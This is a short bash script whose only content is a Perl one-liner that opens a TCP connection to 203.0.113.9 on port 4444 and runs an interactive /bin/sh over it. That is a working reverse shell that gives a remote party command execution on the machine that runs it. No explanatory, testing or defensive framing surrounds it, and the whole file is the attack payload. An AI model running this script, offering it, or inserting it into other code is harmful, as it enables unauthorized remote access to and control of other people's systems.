#!/bin/bash
perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("203.0.113.9")));open(STDIN,">&S");exec("/bin/sh -i");'
